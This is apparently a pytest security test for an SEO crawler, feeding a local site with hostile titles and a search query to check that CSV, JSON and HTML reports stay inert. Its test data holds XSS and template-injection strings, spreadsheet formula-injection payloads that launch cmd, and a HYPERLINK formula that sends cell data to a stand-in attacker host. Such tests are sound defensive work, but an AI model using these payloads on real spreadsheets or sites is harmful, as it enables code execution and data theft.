"""A site whose titles and sentences are attacks: crawled, planned and joined with hostile queries, every output stays harmless."""

from __future__ import annotations

import csv
import json
import re
import shutil
from html import escape
from pathlib import Path

import pytest

from tests.command import crawl, scrapy
from tests.server import LocalServer

pytestmark = pytest.mark.slow

TITLES = (
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"Pay here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 ways to pack",
    "-2+3 more ways to pack",
    "</script><script>alert(2)</script>",
    "\uff1d1+1 full-width",
    "{{constructor.constructor('alert(3)')()}} templates",
)
QUERY = "=cmd|' /C calc'!A0"
TOPIC = (
    "A tent on a bicycle tour should be light, and it should stand up in wind as well as in rain.",
    "Pack the poles along the frame, the inner tent in a pannier, and the wet fly outside of everything.",
    "Whoever rides far carries a stove, a pot and enough fuel for two days between villages.",
)
RUNS_AS_FORMULA = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")
IS_NUMBER = re.compile(r"^[+-]?\d+([.,]\d+)?%?$")


def article(number: int, title: str) -> str:
    near = TITLES[(number + 1) % len(TITLES)]
    sentences = [*TOPIC[number % 3 :], *TOPIC, f"{near} is what we wrote about last year.", f"Part {number} of it is here."]
    text = escape(" ".join(sentences) + " " + near + " again.")
    link = f'<p>Of this we wrote in <a href="/a/{(number + 3) % len(TITLES)}/">{escape(near)}</a> at some length.</p>'
    head = f"<title>{escape(title)}</title><h1>{escape(title)}</h1>"
    return f"<!doctype html><html lang=en><head><meta charset=utf-8>{head}</head><article><p>{text}</p>{link if number % 2 else ''}</article>"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    output = tmp_path_factory.mktemp("hostile")
    routes = {f"/a/{number}/": article(number, title) for number, title in enumerate(TITLES)}
    urls = "".join(f"<url><loc>https://demo.example{path}</loc></url>" for path in routes)
    routes["/sitemap.xml"] = f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'
    with LocalServer(routes) as server:
        done = crawl(output, server.url("/sitemap.xml"))
        assert done.code == 0, done.output
        pages = [server.url(path) for path in list(routes)[:2]]
    export = output / "export.csv"
    with export.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["Page", "Query", "Clicks", "Impressions", "CTR", "Position"])
        rows.writerows([page, QUERY, 9, 100, "9%", 2] for page in pages)
        rows.writerow([pages[0], TITLES[0], 1, 20, "5%", 4])
    joined = scrapy("gsc", str(done.folder), "--export", str(export))
    assert joined.returncode == 0, joined.stderr
    return done.folder


def test_no_cell_of_any_table_runs(folder: Path) -> None:
    seen = ""
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if RUNS_AS_FORMULA.match(cell) and not IS_NUMBER.match(cell)] == [], path.name
        seen += "\n".join(cells)
    names = {path.name for path in folder.glob("*.csv")}
    assert {"interlink_plan.csv", "orphans.csv", "search_console.csv", "cannibalization.csv", "topic_map.csv"} <= names
    assert all(title in seen for title in TITLES)
    assert QUERY in seen


def test_what_is_json_is_json(folder: Path) -> None:
    assert {path.name for path in folder.glob("*.json")} == {"graph.json", "similarity.json", "summary.json"}
    pages = json.loads((folder / "graph.json").read_text(encoding="utf-8"))["pages"]
    assert {page[1] for page in pages} == set(TITLES)
    for path in folder.glob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))


def test_nothing_runs_in_the_report(folder: Path) -> None:
    playwright = pytest.importorskip("playwright.sync_api", reason="the package playwright is not installed")
    chromium = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if chromium is None:
        pytest.skip("no Chromium on this machine")
    report = (folder / "report.html").as_uri()
    troubles: list[str] = []
    requests: set[str] = set()
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        page.on("console", lambda message: message.type in ("error", "warning") and troubles.append(message.text))
        page.on("pageerror", lambda error: troubles.append(str(error)))
        page.on("dialog", lambda dialog: (troubles.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: requests.add(request.url.split("#")[0]))
        page.goto(report)
        shown = ""
        for name in page.locator("nav a").evaluate_all("(links) => links.map((link) => link.hash)"):
            page.locator(f"nav a[href='{name}']").click()
            page.locator(name).wait_for()
            shown += page.locator(name).inner_text()
        assert page.locator("img").count() == 0
        assert page.locator("script").count() == 3
        browser.close()
    assert troubles == []
    assert requests <= {report, "data:,"}
    assert all(title in shown for title in TITLES)
    assert QUERY in shown
